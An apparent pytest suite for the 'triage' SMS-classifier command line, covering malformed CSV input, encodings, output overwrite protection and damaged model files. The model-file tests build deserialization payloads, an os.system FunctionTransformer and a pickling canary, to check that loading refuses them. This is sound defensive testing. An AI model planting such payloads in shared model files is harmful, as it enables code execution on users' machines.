"""Bad input, safe files and no lost work (issue 8), through the command line, as a user
meets them: what a hand-exported spreadsheet can hold, and what a run must never do to
the user's files. triage.io is tested at library level in test_io.py; here every case
goes through `triage ...` and is checked on each command that reads such a file.

The documented behaviour: bad input is one line "Error: ..." on stderr and exit code 1;
bad usage exits 2 (click); never a traceback unless --debug; the input is never
modified; an output appears complete or not at all, never over an existing file without
--force, never over an input, readable by its owner only when it holds messages.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest

from triage import model as model_module
from triage import classifier, schema

from conftest import REPO, rewrite_model, with_checksums

DEFAULT_MODEL = model_module.default_model_path()
READING_COMMANDS = ("seek", "classify", "train", "evaluate")
HEADER = ["id", "text", "label", "spans"]

# Invented messages only (never the development corpus).
NAMES = ["Julie", "Kevin", "Sophie", "Nicolas", "Chloé", "Karim", "Léa", "Hugo", "Inès", "Yanis", "Manon", "Lucas"]
ORDINARY = ["ok", "jarrive", "bonne nuit", "tkt", "a plus", "merci", "trop bien", "on mange ?",
            "je suis la", "bisous", "il pleut", "c cool"]


def labelled_rows(ta: int = 12, nta: int = 12) -> list[list[str]]:
    """id, text, label, spans: `ta` messages with a first name, `nta` without."""
    rows = []
    for i in range(ta):
        name = NAMES[i % len(NAMES)]
        rows.append([f"{len(rows) + 1}", f"rdv avec {name} à 18h", "TA", json.dumps([[9, 9 + len(name), "PRE"]])])
    for i in range(nta):
        rows.append([f"{len(rows) + 1}", ORDINARY[i % len(ORDINARY)], "NTA", "[]"])
    return rows


def extra_rows(texts: list[str], first_id: int = 100) -> list[list[str]]:
    """Rows to append to labelled_rows(): ordinary (NTA) messages with no span."""
    return [[str(first_id + i), text, "NTA", "[]"] for i, text in enumerate(texts)]


def write_table(path: Path, rows, header=HEADER, *, encoding="utf-8", delimiter=",", newline="\n") -> Path:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def read_rows(path: Path, encoding="utf-8-sig") -> list[dict]:
    with open(path, encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle))


def command_line(command: str, source: Path, out: Path) -> list:
    """The command reading `source` and writing under the folder `out`."""
    return {
        "seek": ["seek", source, "-o", out / "seek.csv"],
        "classify": ["classify", source, "-o", out / "classified.csv"],
        "train": ["train", source, "-o", out / "model.triage", "--kind", "tree"],
        # With a model file evaluate needs no cross-validation: fast, and it still reads
        # the gold file the same way.
        "evaluate": ["evaluate", source, "--model", DEFAULT_MODEL, "--out-dir", out / "evaluate"],
        "report cv": ["report", "cv", source, "--folds", "2", "--out-dir", out / "cv"],
        "report holdout": ["report", "holdout", source, "--train-first", "22", "--test-next", "2", "--out-dir", out / "holdout"],
        "report infogain": ["report", "infogain", source, "--out-dir", out / "infogain"],
    }[command]


def run(cli, command: str, source: Path, out: Path, *extra):
    return cli(*command_line(command, source, out), *extra)


def message_output(command: str, out: Path) -> Path:
    return out / {"seek": "seek.csv", "classify": "classified.csv"}[command]


def succeeded(result) -> None:
    assert result.exit_code == 0, result.output
    assert result.exception is None, result.exception


def failed(result, code: int, *fragments: str) -> str:
    """An error as documented: exit `code`, no traceback, one line on stderr (for bad input)."""
    # An unexpected exception also exits 1 under CliRunner: it must not pass for a clean error.
    assert isinstance(result.exception, (SystemExit, type(None))), repr(result.exception)
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output and "Traceback" not in result.stderr
    message = result.stderr.strip()
    if code == 1:
        assert len(message.splitlines()) == 1 and message.startswith("Error: "), message
    for fragment in fragments:
        assert fragment in message, message
    return message


def nothing_written(out: Path) -> None:
    """No output and no temporary file: the output folder is absent or holds no file."""
    if out.exists():
        left = [p for p in out.rglob("*") if p.is_file()]
        assert left == [], left


@pytest.fixture
def out(tmp_path) -> Path:
    return tmp_path / "out"


@pytest.fixture
def labelled(tmp_path) -> Path:
    return write_table(tmp_path / "labelled.csv", labelled_rows())


# ----------------------------------------------------------------------------- columns


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_missing_text_column_names_the_columns_found(cli, tmp_path, out, command):
    rows = labelled_rows()
    source = write_table(tmp_path / "sms.csv", rows, ["id", "message", "label", "spans"])
    message = failed(run(cli, command, source, out), 1, "no column 'text'", "id, message, label, spans", "--text-column")
    assert "sms.csv" in message
    nothing_written(out)


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_the_text_column_option_reads_another_column(cli, tmp_path, out, command):
    source = write_table(tmp_path / "sms.csv", labelled_rows(), ["id", "message", "label", "spans"])
    succeeded(run(cli, command, source, out, "--text-column", "message"))


@pytest.mark.parametrize("command", ["train", "evaluate"])
def test_missing_label_column_names_the_columns_found(cli, tmp_path, out, command):
    source = write_table(tmp_path / "sms.csv", labelled_rows(), ["id", "text", "gold", "spans"])
    failed(run(cli, command, source, out), 1, "no column 'label'", "id, text, gold, spans")
    nothing_written(out)


@pytest.mark.parametrize("command", ["seek", "classify"])
def test_a_label_column_is_not_needed_to_label_or_classify(cli, tmp_path, out, command):
    source = write_table(tmp_path / "sms.csv", [[r[0], r[1]] for r in labelled_rows()], ["id", "text"])
    succeeded(run(cli, command, source, out))
    assert len(read_rows(message_output(command, out))) == 24


# ------------------------------------------------------------------------ empty files


@pytest.mark.parametrize("command", READING_COMMANDS)
@pytest.mark.parametrize("content, error", [(b"", "is empty"), (b"\n\r\n  \n", "no header")])
def test_an_empty_file_is_refused(cli, tmp_path, out, command, content, error):
    source = tmp_path / "sms.csv"
    source.write_bytes(content)
    failed(run(cli, command, source, out), 1, error)
    nothing_written(out)


@pytest.mark.parametrize("command", ["seek", "classify"])
def test_header_only_gives_an_output_with_just_the_header(cli, tmp_path, out, command):
    source = write_table(tmp_path / "sms.csv", [], HEADER)
    result = run(cli, command, source, out)
    succeeded(result)
    assert "0 messages" in result.stdout
    written = message_output(command, out).read_bytes().decode("utf-8")
    expected = list(schema.SEEK_COLUMNS if command == "seek" else schema.CLASSIFY_COLUMNS)
    assert written == ",".join(expected) + "\r\n"


@pytest.mark.parametrize("command", ["train", "evaluate"])
def test_header_only_cannot_train_or_evaluate(cli, tmp_path, out, command):
    source = write_table(tmp_path / "sms.csv", [], HEADER)
    failed(run(cli, command, source, out), 1, "no messages" if command == "evaluate" else "found 0 NTA, 0 TA")
    nothing_written(out)


# ---------------------------------------------------------------- odd message contents


def check_texts(command: str, out: Path, expected_texts: list[str]) -> None:
    """seek and classify: one output row per message, the text exactly as read."""
    if command not in ("seek", "classify"):
        return
    rows = read_rows(message_output(command, out), encoding="utf-8")
    assert [r["text"] for r in rows] == expected_texts
    for row in rows:  # the offsets of what was hidden point into that same text
        for start, end, _ in json.loads(row["hidden"]):
            assert 0 <= start < end <= len(row["text"])


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_empty_and_nan_like_messages_are_kept(cli, tmp_path, out, command):
    odd = ["", "nan", "NaN", "NULL", "None", "N/A", "#N/A", " ", "-"]
    rows = labelled_rows() + extra_rows(odd)
    source = write_table(tmp_path / "sms.csv", rows)
    succeeded(run(cli, command, source, out))
    check_texts(command, out, [r[1] for r in rows])


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_a_one_megabyte_message(cli, tmp_path, out, command):
    huge = ("Coucou Julie, on se voit demain à la gare ? " * 30_000)[:1_000_000]
    rows = labelled_rows() + extra_rows([huge])
    source = write_table(tmp_path / "sms.csv", rows)
    succeeded(run(cli, command, source, out))
    check_texts(command, out, [r[1] for r in rows])


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_nul_bytes_are_dropped_and_control_characters_kept(cli, tmp_path, out, command):
    controls = "bip\x07 tab\t vt\x0b ff\x0c esc\x1b[0m del\x7f zwsp\u200b ls\u2028 nel\x85 fin"
    rows = labelled_rows() + extra_rows(["ok\x00 merci\x00", controls, "cr\rseul"])
    source = write_table(tmp_path / "sms.csv", rows, newline="\r\n")  # as Excel: a lone CR is quoted
    assert b"\x00" in source.read_bytes()
    succeeded(run(cli, command, source, out))
    # NULs cannot be part of a message (they come from binary or UTF-16 files): dropped.
    check_texts(command, out, [r[1].replace("\x00", "") for r in rows])


SCRIPTS = [
    "rdv à 18h 🎉👍🏽 ok? ❤️ 👨‍👩‍👧",
    "مرحبا، كيف حالك؟ Julie",
    "你好，明天见",
    "Привет, до завтра, Никита",
    "e\u0301te\u0301 de\u0301compose\u0301",  # decomposed accents must not be normalised
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝟙𝟚𝟛 ﬁn",
]


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_emoji_and_other_scripts_round_trip_exactly(cli, tmp_path, out, command):
    rows = labelled_rows() + extra_rows(SCRIPTS)
    source = write_table(tmp_path / "sms.csv", rows)
    succeeded(run(cli, command, source, out))
    check_texts(command, out, [r[1] for r in rows])


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_windows_line_endings(cli, tmp_path, out, command):
    rows = labelled_rows() + extra_rows(["ligne 1\r\nligne 2", "fin de ligne "])
    source = write_table(tmp_path / "sms.csv", rows, newline="\r\n")
    succeeded(run(cli, command, source, out))
    check_texts(command, out, [r[1] for r in rows])


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_utf8_with_bom(cli, tmp_path, out, command):
    # The BOM sits on the first column name: here the text column itself.
    rows = [[text, ident, label, spans] for ident, text, label, spans in labelled_rows() + extra_rows(SCRIPTS)]
    source = write_table(tmp_path / "sms.csv", rows, ["text", "id", "label", "spans"], encoding="utf-8-sig")
    assert source.read_bytes().startswith(b"\xef\xbb\xbftext,")
    succeeded(run(cli, command, source, out))
    check_texts(command, out, [r[0] for r in rows])
    if command in ("seek", "classify"):
        assert [r["id"] for r in read_rows(message_output(command, out))] == [r[1] for r in rows]


WESTERN = ["Rendez-vous à l'hôtel à 20h, ça marche ?", "cœur brisé… c’est la vie — 5 €", "il a dit « oui » à Zoé"]


@pytest.mark.parametrize("command", READING_COMMANDS)
@pytest.mark.parametrize("encoding", ["cp1252", "latin-1"])
@pytest.mark.parametrize("explicit", [False, True], ids=["detected", "option"])
def test_latin1_and_cp1252_files(cli, tmp_path, out, command, encoding, explicit):
    texts = WESTERN if encoding == "cp1252" else ["Rendez-vous à l'hôtel à 20h", "il a dit « oui » à Zoé ±"]
    rows = labelled_rows() + extra_rows(texts)
    source = write_table(tmp_path / "sms.csv", rows, encoding=encoding)
    extra = ("--encoding", encoding) if explicit else ()
    succeeded(run(cli, command, source, out, *extra))
    check_texts(command, out, [r[1] for r in rows])


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_a_wrong_encoding_option_names_the_line_and_suggests_another(cli, tmp_path, out, command):
    rows = labelled_rows() + extra_rows(WESTERN)
    source = write_table(tmp_path / "sms.csv", rows, encoding="cp1252")
    # "à" of the first message (line 2) is one byte in cp1252, not valid UTF-8.
    failed(run(cli, command, source, out, "--encoding", "utf-8"), 1, "line 2:", "not valid utf-8", "--encoding cp1252")
    failed(run(cli, command, source, out, "--encoding", "klingon"), 1, "unknown encoding 'klingon'")
    nothing_written(out)


@pytest.mark.parametrize("command", READING_COMMANDS)
@pytest.mark.parametrize("delimiter, option", [(";", None), ("\t", None), (";", ";"), ("\t", "tab"), ("|", "|")])
def test_semicolon_and_tab_delimiters(cli, tmp_path, out, command, delimiter, option):
    # Commas inside the messages make a wrong guess visible (ragged rows or lost text).
    rows = labelled_rows() + extra_rows(["ok, merci, à demain", "un; deux", "a\tb, c"])
    source = write_table(tmp_path / "sms.csv", rows, delimiter=delimiter)
    extra = ("--delimiter", option) if option else ()
    succeeded(run(cli, command, source, out, *extra))
    check_texts(command, out, [r[1] for r in rows])


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_quoted_fields_with_newlines(cli, tmp_path, out, command):
    multi = ["ligne 1\nligne 2", "a\n\n\nb", 'il a dit "oui",\npuis "non"', "\nen tête", "à la fin\n"]
    rows = labelled_rows() + extra_rows(multi)
    source = write_table(tmp_path / "sms.csv", rows)
    succeeded(run(cli, command, source, out))
    check_texts(command, out, [r[1] for r in rows])


# ------------------------------------------------------------------------- ragged rows


def ragged_file(tmp_path: Path) -> tuple[Path, list[list[str]], int]:
    """A file whose 28th physical line holds a row with one field too many, after a
    record spanning three lines (so that records and lines differ)."""
    rows = labelled_rows() + extra_rows(["trois\nlignes\nici"])
    source = write_table(tmp_path / "sms.csv", rows)
    with source.open("a", encoding="utf-8", newline="") as handle:
        handle.write('999,"un champ de trop",NTA,[],en trop\n')
        handle.write("1000,la suite,NTA,[]\n")
    good = rows + [["1000", "la suite", "NTA", "[]"]]
    return source, good, 1 + 24 + 3  # header, 24 one-line rows, then the 3-line record: line 29


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_a_ragged_row_is_an_error_naming_its_line(cli, tmp_path, out, command):
    source, _, before = ragged_file(tmp_path)
    failed(run(cli, command, source, out), 1, f"line {before + 1}:", "5 fields, header has 4", "--on-bad-lines skip")
    nothing_written(out)


@pytest.mark.parametrize("command", ["seek", "classify", "train"])
def test_on_bad_lines_skip_goes_on_and_says_how_many(cli, tmp_path, out, command):
    source, good, before = ragged_file(tmp_path)
    result = run(cli, command, source, out, "--on-bad-lines", "skip")
    succeeded(result)
    check_texts(command, out, [r[1] for r in good])
    if command in ("seek", "classify"):
        assert f"skipped 1 bad row (line {before + 1})" in result.stderr


@pytest.mark.parametrize("command", ["seek", "classify"])
def test_on_bad_lines_warn_is_one_line_per_row(cli, tmp_path, out, command):
    source, good, before = ragged_file(tmp_path)
    result = run(cli, command, source, out, "--on-bad-lines", "warn")
    succeeded(result)
    check_texts(command, out, [r[1] for r in good])
    assert "Traceback" not in result.stderr and "warnings.warn" not in result.stderr  # no source line dumped
    assert f"line {before + 1}: 5 fields, header has 4; row skipped" in result.stderr


def test_an_unknown_on_bad_lines_value_is_refused(cli, tmp_path, out, labelled):
    failed(run(cli, "classify", labelled, out, "--on-bad-lines", "ignore"), 1, "on-bad-lines must be one of")


# ------------------------------------------------------------------------ ids, labels


def test_classify_keeps_duplicate_ids_and_warns_once(cli, tmp_path, out):
    rows = [["1", "ok"], ["1", "Coucou Julie"], ["2", "merci"], ["3", "a plus"], ["3", "bisous"], ["3", "tkt"]]
    source = write_table(tmp_path / "sms.csv", rows, ["id", "text"])
    result = run(cli, "classify", source, out)
    succeeded(result)
    assert [(r["id"], r["text"]) for r in read_rows(out / "classified.csv")] == [tuple(r) for r in rows]
    warnings = [line for line in result.stderr.splitlines() if "id" in line]
    assert len(warnings) == 1, result.stderr
    assert "2 ids" in warnings[0] and "3 rows" in warnings[0] and "queue export" in warnings[0]


def test_classify_without_an_id_column_numbers_the_rows_and_does_not_warn(cli, tmp_path, out):
    source = write_table(tmp_path / "sms.csv", [["ok"], ["ok"], ["ok"]], ["text"])
    result = run(cli, "classify", source, out)
    succeeded(result)
    assert [r["id"] for r in read_rows(out / "classified.csv")] == ["1", "2", "3"]
    assert result.stderr == ""


@pytest.fixture
def classified(cli, tmp_path) -> Path:
    """A classified file where every message went to the expert (budget 100%)."""
    source = write_table(tmp_path / "sms.csv", [[r[0], r[1]] for r in labelled_rows(4, 4)], ["id", "text"])
    path = tmp_path / "classified.csv"
    succeeded(cli("classify", source, "-o", path, "--expert-budget", "1"))
    return path


def duplicate_first_id(path: Path) -> None:
    rows = read_rows(path)
    rows[1]["id"] = rows[0]["id"]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def fill_queue(queue: Path, decision: str = "NTA") -> Path:
    rows = read_rows(queue)
    for row in rows:
        row["expert_decision"] = decision
    with queue.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return queue


def test_queue_export_refuses_duplicate_ids(cli, classified, tmp_path):
    duplicate_first_id(classified)
    queue = tmp_path / "queue.csv"
    failed(cli("queue", "export", classified, "-o", queue), 1, "id '1' appears on lines 2 and 3", "ids must be unique")
    assert not queue.exists()


def test_queue_apply_refuses_duplicate_ids(cli, classified, tmp_path):
    queue = tmp_path / "queue.csv"
    succeeded(cli("queue", "export", classified, "-o", queue))
    fill_queue(queue)
    duplicate_first_id(queue)
    final = tmp_path / "final.csv"
    failed(cli("queue", "apply", queue, classified, "-o", final), 1, "ids must be unique")
    assert not final.exists()


ACCEPTED_TA = ["TA", "ta", "Ta", " TA ", "1", "true", "TRUE", "1.0", "tA", "TA", "1", "ta"]
ACCEPTED_NTA = ["NTA", "nta", "Nta", "NTA ", "0", "false", "False", "0.0", "nTa", "NTA", "0", "nta"]


@pytest.mark.parametrize("command", ["seek", "train", "evaluate"])
def test_label_case_variants_and_1_0_are_accepted(cli, tmp_path, out, command):
    rows = labelled_rows()
    for row, label in zip(rows, ACCEPTED_TA + ACCEPTED_NTA):
        row[2] = label
    source = write_table(tmp_path / "sms.csv", rows)
    result = run(cli, command, source, out)
    succeeded(result)
    if command == "train":
        assert "(12 TA, 12 NTA)" in result.stdout
    if command == "seek":  # the gold labels were read: the paper's Table 4 is printed
        assert "Accuracy on tagged messages: 1.000" in result.stdout


@pytest.mark.parametrize("command", ["seek", "train", "evaluate"])
def test_other_labels_are_refused_with_their_lines(cli, tmp_path, out, command):
    rows = labelled_rows()
    rows[1][2], rows[3][2], rows[7][2], rows[20][2] = "yes", "", "TA?", "2"
    source = write_table(tmp_path / "sms.csv", rows)
    failed(
        run(cli, command, source, out), 1,
        "line 3: label 'yes' is not TA or NTA", "also lines 5 (''), 9 ('TA?')", "4 bad labels in total",
    )
    nothing_written(out)


@pytest.mark.parametrize("command", ["train", "evaluate"])
@pytest.mark.parametrize("ta, nta", [(24, 0), (12, 9)], ids=["single-class", "nine-nta"])
def test_too_few_examples_of_a_class(cli, tmp_path, out, command, ta, nta):
    source = write_table(tmp_path / "sms.csv", labelled_rows(ta, nta))
    args = command_line(command, source, out)
    if command == "evaluate":  # cross-validation trains: same rule as train
        args = ["evaluate", source, "--folds", "2", "--out-dir", out / "evaluate"]
    failed(cli(*args), 1, "at least 10 messages of each class", f"found {nta} NTA, {ta} TA")
    nothing_written(out)


@pytest.mark.parametrize("command", ["report cv", "report holdout", "report infogain"])
def test_reports_refuse_a_single_class(cli, tmp_path, out, command):
    source = write_table(tmp_path / "sms.csv", labelled_rows(24, 0))
    failed(run(cli, command, source, out), 1)
    nothing_written(out)


# ----------------------------------------------------------------------------- outputs


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_an_output_in_a_missing_folder_is_created(cli, labelled, tmp_path, command):
    deep = tmp_path / "a" / "b" / "c"
    succeeded(run(cli, command, labelled, deep))
    assert any(deep.iterdir())
    if command in ("seek", "classify"):  # folders made for private files are private too
        assert stat.S_IMODE((tmp_path / "a").stat().st_mode) & 0o077 == 0


WRITING = ["seek", "classify", "train"]


def output_of(command: str, out: Path) -> Path:
    return out / {"seek": "seek.csv", "classify": "classified.csv", "train": "model.triage"}[command]


@pytest.mark.parametrize("command", WRITING)
def test_an_existing_output_needs_force(cli, labelled, out, command):
    target = output_of(command, out)
    out.mkdir()
    target.write_bytes(b"precious work\n")
    failed(run(cli, command, labelled, out), 1, "exists; use --force")
    assert target.read_bytes() == b"precious work\n"
    assert sorted(p.name for p in out.iterdir()) == [target.name]  # no temporary file left
    succeeded(run(cli, command, labelled, out, "--force"))
    assert target.read_bytes() != b"precious work\n"
    if command == "train":
        assert zipfile.is_zipfile(target)
    else:
        assert len(read_rows(target)) == 24


def test_queue_outputs_need_force(cli, classified, tmp_path):
    queue, final = tmp_path / "queue.csv", tmp_path / "final.csv"
    succeeded(cli("queue", "export", classified, "-o", queue))
    fill_queue(queue)
    for path in (tmp_path / "other.csv", final):
        path.write_bytes(b"precious work\n")
    failed(cli("queue", "export", classified, "-o", tmp_path / "other.csv"), 1, "exists; use --force")
    apply = ["queue", "apply", queue, classified, "-o", final]
    failed(cli(*apply), 1, "exists; use --force")
    assert final.read_bytes() == (tmp_path / "other.csv").read_bytes() == b"precious work\n"
    succeeded(cli(*apply, "--force"))
    assert [r["final"] for r in read_rows(final)] == ["NTA"] * 8


@pytest.mark.parametrize("command", WRITING)
def test_the_input_is_never_the_output_even_with_force(cli, labelled, command):
    before = labelled.read_bytes()
    args = command_line(command, labelled, labelled.parent)
    args[args.index("-o") + 1] = labelled
    failed(cli(*args, "--force"), 1, "input file")
    assert labelled.read_bytes() == before


def test_the_queue_of_classify_is_never_its_input_or_output(cli, labelled, tmp_path):
    before = labelled.read_bytes()
    out = tmp_path / "classified.csv"
    failed(cli("classify", labelled, "-o", out, "--queue", labelled, "--force"), 1, "input file")
    assert labelled.read_bytes() == before
    failed(cli("classify", labelled, "-o", out, "--queue", out, "--force"), 1, "given for two outputs")
    assert not out.exists()  # refused before classifying anything


def test_queue_commands_never_write_over_their_inputs(cli, classified, tmp_path):
    queue = tmp_path / "queue.csv"
    succeeded(cli("queue", "export", classified, "-o", queue))
    fill_queue(queue)
    saved = {p: p.read_bytes() for p in (classified, queue)}
    failed(cli("queue", "export", classified, "-o", classified, "--force"), 1, "input file")
    for target in (queue, classified):
        failed(cli("queue", "apply", queue, classified, "-o", target, "--force"), 1, "input file")
    assert {p: p.read_bytes() for p in saved} == saved


@pytest.mark.parametrize("command", READING_COMMANDS + ("queue export",))
def test_a_missing_input_or_a_folder(cli, tmp_path, out, command):
    for source, error in ((tmp_path / "nowhere.csv", "nowhere.csv: no such file"), (tmp_path, "is a folder")):
        if command == "queue export":
            result = cli("queue", "export", source, "-o", out / "queue.csv")
        else:
            result = run(cli, command, source, out)
        failed(result, 1, error)
    nothing_written(out)


# ------------------------------------------------------------------------ bad options


@pytest.mark.parametrize("command", ["classify", "evaluate"])
def test_an_unknown_policy(cli, labelled, out, command):
    failed(run(cli, command, labelled, out, "--policy", "coinflip"), 1, "unknown policy 'coinflip'", "choose one of paper, budget")
    nothing_written(out)


@pytest.mark.parametrize("command", ["classify", "evaluate"])
@pytest.mark.parametrize("budget", ["2", "-0.1", "nan"])
def test_an_expert_budget_outside_0_1(cli, labelled, out, command, budget):
    failed(run(cli, command, labelled, out, "--expert-budget", budget), 1, "between 0 and 1")
    nothing_written(out)


def test_a_budget_that_is_not_a_number_is_a_usage_error(cli, labelled, out):
    failed(run(cli, "classify", labelled, out, "--expert-budget", "ten"), 2, "Invalid value for '--expert-budget'")


@pytest.mark.parametrize("command", ["train", "evaluate"])
def test_an_unknown_feature_set(cli, labelled, out, command):
    failed(run(cli, command, labelled, out, "--features", "fancy"), 1, "unknown feature set 'fancy'", "paper, rich")
    nothing_written(out)


@pytest.mark.parametrize("where", ["missing", "file"])
def test_lexicons_from_a_folder_that_is_not_one(cli, labelled, tmp_path, where):
    directory = tmp_path / "nowhere" if where == "missing" else labelled
    failed(cli("lexicons", "--directory", directory), 1, "cannot read the lexicons", str(directory))


def _cp1252_names(user: Path) -> None:
    (user / "names.txt").write_bytes("Zoé\n".encode("cp1252"))  # a spreadsheet or Notepad on Windows


def _folder_names(user: Path) -> None:
    (user / "names.txt").mkdir()


@pytest.mark.parametrize("command, spoil, fragment", [
    ("seek", _cp1252_names, "UTF-8"),
    ("classify", _folder_names, "Is a directory"),
])
def test_an_unreadable_user_lexicon_file_is_one_clear_line(cli, labelled, tmp_path, monkeypatch, command, spoil,
                                                           fragment):
    from triage import lexicons as lexicon_module

    user = tmp_path / "user"
    user.mkdir()
    spoil(user)
    monkeypatch.setenv(lexicon_module.USER_DIR_ENV, str(user))
    lexicon_module.default.cache_clear()
    try:
        failed(cli(command, labelled, "-o", tmp_path / "out.csv"), 1, "names.txt", fragment)
    finally:
        lexicon_module.default.cache_clear()


# ------------------------------------------------------------------------- model files




@pytest.fixture(scope="module")
def small_model(tmp_path_factory) -> Path:
    """A model trained through the CLI (report tree needs the full pipeline inside), with
    the lexicons the tests use (no user lexicon)."""
    from typer.testing import CliRunner

    from triage import lexicons as lexicon_module
    from triage.cli import app

    folder = tmp_path_factory.mktemp("model")
    source = write_table(folder / "labelled.csv", [r[:3] for r in labelled_rows()], HEADER[:3])
    path = folder / "small.triage"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(lexicon_module.USER_DIR_ENV, str(folder / "no-user-lexicon"))
        lexicon_module.default.cache_clear()
        result = CliRunner().invoke(app, ["train", str(source), "-o", str(path), "--kind", "tree"])
    lexicon_module.default.cache_clear()
    assert result.exit_code == 0, result.output
    return path


def bad_models(small_model: Path, folder: Path) -> dict[str, tuple[Path, str]]:
    """name -> (model file, what the error says)."""
    real = small_model.read_bytes()
    truncated = folder / "truncated.triage"
    truncated.write_bytes(real[: len(real) // 2])
    csv_file = write_table(folder / "sms.csv", labelled_rows(2, 2))
    flipped = folder / "flipped.triage"  # a corrupt byte inside a compressed member
    with zipfile.ZipFile(small_model) as archive:
        info = archive.getinfo("forest.npz")
    middle = info.header_offset + 30 + len(info.filename) + info.compress_size // 2
    flipped.write_bytes(real[:middle] + bytes([real[middle] ^ 0xFF]) + real[middle + 1:])
    empty_zip = folder / "empty.triage"
    with zipfile.ZipFile(empty_zip, "w") as archive:
        archive.writestr("readme.txt", "hello")

    def tamper(members):
        data = bytearray(members["forest.npz"])
        data[-40] ^= 1  # one bit of the forest
        members["forest.npz"] = bytes(data)

    def other_lexicons(members):
        meta = json.loads(members["metadata.json"])
        meta["lexicon_fingerprint"] = "0000000000000000"
        members["metadata.json"] = json.dumps(meta).encode()
        with_checksums(members)

    def list_metadata(members):
        members["metadata.json"] = b"[1, 2, 3]"

    def newer_format(members):
        meta = json.loads(members["metadata.json"])
        meta["format"] = "sms-triage-model/99"
        members["metadata.json"] = json.dumps(meta).encode()
        with_checksums(members)

    return {
        "missing": (folder / "missing.triage", "does not exist"),
        "folder": (folder, "is a folder"),
        "flipped byte": (flipped, "is damaged"),
        "bad metadata": (rewrite_model(small_model, folder / "meta.triage", list_metadata), "bad metadata.json"),
        "truncated": (truncated, "is not an sms-triage model file"),
        "csv": (csv_file, "is not an sms-triage model file"),
        "foreign zip": (empty_zip, "is not an sms-triage model file"),
        "tampered": (rewrite_model(small_model, folder / "tampered.triage", tamper), "damaged or was modified"),
        "other lexicons": (rewrite_model(small_model, folder / "lex.triage", other_lexicons), "other lexicons"),
        "newer format": (rewrite_model(small_model, folder / "new.triage", newer_format), "this version reads"),
    }


BAD_MODELS = ["missing", "folder", "flipped byte", "bad metadata", "truncated", "csv", "foreign zip", "tampered", "other lexicons", "newer format"]


@pytest.mark.parametrize(
    "command, kind",
    [(command, kind) for command in ("classify", "evaluate", "report tree") for kind in BAD_MODELS
     if (command, kind) != ("report tree", "other lexicons")],  # drawing a tree does not use the lexicons
)
def test_a_bad_model_file_is_one_clear_line(cli, labelled, small_model, tmp_path, command, kind):
    folder = tmp_path / "models"
    folder.mkdir()
    path, error = bad_models(small_model, folder)[kind]
    out = tmp_path / "out"
    if command == "report tree":
        result = cli("report", "tree", path, "--out-dir", out)
    else:
        args = command_line(command, labelled, out)
        if command == "evaluate":
            args[args.index("--model") + 1] = path
        else:
            args += ["--model", path]
        result = cli(*args)
    failed(result, 1, error)
    nothing_written(out)


def test_a_tampered_skops_member_is_refused_by_report_tree(cli, small_model, tmp_path):
    def tamper(members):
        data = bytearray(members["model.skops"])
        data[len(data) // 2] ^= 1
        members["model.skops"] = bytes(data)

    tampered = rewrite_model(small_model, tmp_path / "tampered.triage", tamper)
    failed(cli("report", "tree", tampered, "--out-dir", tmp_path / "out"), 1, "model.skops does not match its checksum")


def test_a_model_with_types_outside_the_allow_list_is_refused(cli, labelled, small_model, tmp_path):
    """Even with valid checksums (anyone can recompute them), report tree refuses to load
    a type outside the allow-list; classify never loads the pickled part at all."""
    import skops.io
    from sklearn.preprocessing import FunctionTransformer

    def evil(members):
        members["model.skops"] = skops.io.dumps(FunctionTransformer(func=os.system, kw_args={"command": "touch pwned"}))
        with_checksums(members)

    path = rewrite_model(small_model, tmp_path / "evil.triage", evil)
    failed(cli("report", "tree", path, "--out-dir", tmp_path / "tree"), 1, "outside the allow-list", f"{os.system.__module__}.system")
    # classify reads only the numpy arrays: the skops member is never deserialised.
    succeeded(cli("classify", labelled, "-o", tmp_path / "c.csv", "--model", path))
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()


class _Canary:
    """Unpickling this creates a file: the proof that a loader ran code from the file."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return (Path.touch, (self.path,))


def test_a_forest_holding_pickled_objects_is_refused_without_running_them(cli, labelled, small_model, tmp_path):
    canary = tmp_path / "canary"

    def pickled_forest(members):
        with np.load(io.BytesIO(members["forest.npz"])) as arrays:
            forest = dict(arrays)
        forest["proba"] = np.array([_Canary(canary)] * len(forest["proba"]), dtype=object)
        buffer = io.BytesIO()
        np.savez(buffer, **forest)
        members["forest.npz"] = buffer.getvalue()
        with_checksums(members)

    path = rewrite_model(small_model, tmp_path / "pickled.triage", pickled_forest)
    failed(cli("classify", labelled, "-o", tmp_path / "c.csv", "--model", path), 1, "unreadable forest")
    assert not canary.exists()


# ---------------------------------------------------------------------- the input file


def snapshot(path: Path) -> tuple:
    info = path.stat()
    return path.read_bytes(), info.st_mtime_ns, stat.S_IMODE(info.st_mode)


@pytest.mark.parametrize(
    "command", READING_COMMANDS + ("report cv", "report holdout", "report infogain", "queue export", "queue apply")
)
def test_the_input_is_never_modified(cli, labelled, request, tmp_path, out, command):
    if command.startswith("queue"):
        classified = request.getfixturevalue("classified")
        queue = tmp_path / "queue.csv"
        if command == "queue apply":
            succeeded(cli("queue", "export", classified, "-o", queue))
